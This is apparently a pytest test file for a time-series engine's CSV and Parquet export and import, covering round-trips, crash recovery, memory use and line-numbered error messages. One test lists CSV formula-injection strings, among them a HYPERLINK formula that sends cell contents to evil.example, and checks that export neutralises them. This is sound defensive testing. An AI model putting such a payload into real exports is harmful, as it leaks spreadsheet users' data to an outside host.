# SPDX-License-Identifier: Apache-2.0
"""Export and import: CSV and Parquet hold every point, CSV comes back whole and once, faults name their line."""

from __future__ import annotations

import builtins
import contextlib
import csv
import gc
import io
import tracemalloc
from pathlib import Path
from typing import Any

import pyarrow.parquet
import pytest
from hypothesis import given, strategies as st
from tests.engines.series.play import DEVICE, START, Play, packet

from armillary.engines.series import export
from armillary.engines.series.export import COLUMNS, csv_parts, parquet_parts, read_csv, time_text
from armillary.engines.series.restoring import Restored
from armillary.engines.series.values.chunks import HOUR_MS, ValueKind
from armillary.errors import InvalidArgumentError, ParquetMissingError

END = START + 100 * HOUR_MS
OTHER = "cd" * 64
HEADING = ",".join(COLUMNS)

pytestmark = pytest.mark.usefixtures("engine")


@pytest.fixture
def play(tmp_path: Path) -> Play:  # type: ignore[misc]
    playing = Play(tmp_path / "hub")
    playing.keep((START, {"t": 0.1, "door": True, "s": 'a "b",\r\nc'}), (START + 1, {"t": -1e300, "s": ""}))
    playing.flush(START)
    playing.keep((START + HOUR_MS, packet({"t": 1 / 3}, "$.mid=x")), (START + HOUR_MS, packet({"t": 1 / 3}, "$.mid=y")))
    playing.seal(START + 3 * HOUR_MS)
    playing.keep((START + 5 * HOUR_MS, {"t": 7}))
    playing.decode()
    yield playing
    playing.store.close(START)


def exported(play: Play, device: str = DEVICE) -> str:
    return b"".join(csv_parts(play.store, play.store.fleet.series([device], None), 0, END)).decode()


def restore(play: Play, text: str, device: str) -> None:
    rows = [
        Restored(number, metric, at_ms, value, mark)
        for _, metric, at_ms, value, mark in read_csv(io.StringIO(text, newline=""))
        for number in [play.store.commits.submit(play.store.restoring.devices([device])).result()[device]]
    ]
    play.store.commits.submit(play.store.restoring.points(rows, START + 50 * HOUR_MS)).result()


def test_csv_has_a_line_a_point(play: Play) -> None:
    lines = exported(play).split("\r\n")
    assert lines[0] == HEADING
    assert f"{DEVICE},t,{time_text(START)},number,0.1," in lines
    assert f"{DEVICE},door,{time_text(START)},boolean,true," in lines
    assert f"{DEVICE},t,{time_text(START + 1)},number,-1e+300," in lines
    marked = [line for line in lines if time_text(START + HOUR_MS) in line]
    assert len(marked) == len(set(marked)) == 2
    assert all(len(line.rpartition(",")[2]) == 16 for line in marked)


def test_what_was_exported_comes_back_whole_and_once(play: Play) -> None:
    before = exported(play)
    for _ in range(2):
        restore(play, before, OTHER)
        assert exported(play, OTHER) == before.replace(DEVICE, OTHER)
    restore(play, before, DEVICE)  # over what is there
    assert exported(play) == before
    play.maintain(START + 50 * HOUR_MS)
    assert exported(play) == before
    assert exported(play, OTHER) == before.replace(DEVICE, OTHER)
    assert play.store.last_values(OTHER) == play.store.last_values(DEVICE)
    both = play.store.fleet.over_time(None, "t", START, END, 1000).buckets
    assert [each.count for each in both] == [4, 4, 2]


def test_restored_names_survive_a_crash_before_the_next_flush(tmp_path: Path) -> None:
    first = Play(tmp_path / "hub")
    first.keep((START, {"a": 1}), (START, {"b": 2}))
    first.decode()  # series of a and b are in the tail only
    text = f"{HEADING}\r\n{DEVICE},b,{time_text(START + 5)},number,3,\r\n{DEVICE},c,{time_text(START)},text,x,\r\n"
    restore(first, text, DEVICE)
    first.store.commits.close()
    first.store._database.release()
    second = Play(tmp_path / "hub")
    second.decode()
    assert second.store.raw(DEVICE, "a", 0, END, 9) == [(START, 1.0)]
    assert second.store.raw(DEVICE, "b", 0, END, 9) == [(START, 2.0), (START + 5, 3.0)]
    assert second.store.raw(DEVICE, "c", 0, END, 9) == [(START, "x")]
    second.seal(START + 9 * HOUR_MS)
    assert second.store.raw(DEVICE, "b", 0, END, 9) == [(START, 2.0), (START + 5, 3.0)]
    second.store.close(START)


FORMULAS = ('=HYPERLINK("https://evil.example?"&A1)', "+1+1", "-1-1", "@x", "\t=1", "'quoted", "''twice", "plain=1")


def test_no_text_of_a_device_is_a_formula_of_who_opens_the_file(play: Play, monkeypatch: pytest.MonkeyPatch) -> None:
    for at, text in enumerate(FORMULAS):
        play.keep((START + 6 * HOUR_MS + at, {"said": text, "=1+1": at}))
    play.decode()
    whole = exported(play)

    def computed(text: str) -> list[str]:
        rows = list(csv.reader(io.StringIO(text, newline="")))
        cells = [row[1] for row in rows] + [row[4] for row in rows if row[3] != "number"]
        return [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]

    assert computed(whole) == []
    said = [value for _, metric, _, value, _ in read_csv(io.StringIO(whole, newline="")) if metric == "said"]
    assert said == list(FORMULAS)  # the control: nothing is lost
    assert [value for _, metric, _, value, _ in read_csv(io.StringIO(whole, newline="")) if metric == "=1+1"]
    # Mutation: as it was sent, it is computed.
    monkeypatch.setattr(export, "_shielded", lambda text: text)
    monkeypatch.setitem(export._TEXTS, ValueKind.TEXT, lambda values: values)
    assert len(computed(exported(play))) == 5 + len(FORMULAS)


def test_parquet_holds_the_same(play: Play) -> None:
    data = b"".join(parquet_parts(play.store, play.store.fleet.series([DEVICE], None), 0, END))
    table = pyarrow.parquet.read_table(io.BytesIO(data))
    rows = [
        (
            row["device_id"],
            row["metric"],
            round(row["time"].timestamp() * 1000),
            next(row[kind] for kind in ("number", "boolean", "text") if row["kind"] == kind),
            int(row["message"] or "0", 16),
        )
        for row in table.to_pylist()
    ]
    assert rows == list(read_csv(io.StringIO(exported(play), newline="")))
    assert len(rows) == 8


def test_without_pyarrow_the_error_says_what_to_install(play: Play, monkeypatch: pytest.MonkeyPatch) -> None:
    real = builtins.__import__

    def missing(name: str, *rest: Any) -> Any:
        if name.startswith("pyarrow"):
            raise ImportError(name)
        return real(name, *rest)

    monkeypatch.setattr(builtins, "__import__", missing)
    with pytest.raises(ParquetMissingError) as caught:
        parquet_parts(play.store, [], 0, END)
    assert "pip install 'armillary[parquet]'" in str(caught.value.remedy)


def test_an_export_takes_no_more_memory_for_more_points(play: Play) -> None:
    def peak(hours: int) -> int:
        rows = [Restored(play.number, "m", START + n * 9000, n, 0) for n in range(hours * 400)]
        play.store.commits.submit(play.store.restoring.points(rows, START)).result()
        play.seal(START + 200 * HOUR_MS)
        found = []
        for _ in range(2):  # other threads of this process allocate as well, now and then
            gc.collect()
            tracemalloc.start()
            for _ in csv_parts(play.store, play.store.fleet.series([DEVICE], None), 0, 2**50):
                pass
            found.append(tracemalloc.get_traced_memory()[1])
            tracemalloc.stop()
        return min(found)

    few = peak(20)
    assert peak(60) < few * 1.5


@pytest.mark.parametrize(
    ("line", "message"),
    [
        ("a,b,c", "line 2: expected 6 columns, got '3'"),
        (f"{DEVICE},,2026-01-01T00:00:00Z,number,1,", "line 2: metric"),
        (f"{DEVICE},t,yesterday,number,1,", "line 2: time"),
        (f"{DEVICE},t,1969-01-01T00:00:00Z,number,1,", "line 2: time"),
        (f"{DEVICE},t,2026-01-01T00:00:00Z,number,nan,", "line 2: value"),
        (f"{DEVICE},t,2026-01-01T00:00:00Z,number,1e999,", "line 2: value"),
        (f"{DEVICE},t,2026-01-01T00:00:00Z,number,one,", "line 2: value"),
        (f"{DEVICE},t,2026-01-01T00:00:00Z,boolean,1,", "line 2: kind and value"),
        (f"{DEVICE},t,2026-01-01T00:00:00Z,text,{'x' * 2000},", "line 2: value"),
        (f"{DEVICE},t,2026-01-01T00:00:00Z,number,1,xyz", "line 2: message"),
        (f'{DEVICE},"t"x,2026-01-01T00:00:00Z,number,1,', "line 2: not CSV"),
    ],
)
def test_a_fault_in_a_file_names_line_and_column(line: str, message: str) -> None:
    with pytest.raises(InvalidArgumentError) as caught:
        list(read_csv([HEADING + "\r\n", line + "\r\n"]))
    assert message in caught.value.message


@given(st.text(max_size=300))
def test_no_text_makes_the_reader_fail_in_another_way(text: str) -> None:
    with contextlib.suppress(InvalidArgumentError):
        list(read_csv(io.StringIO(text, newline="")))
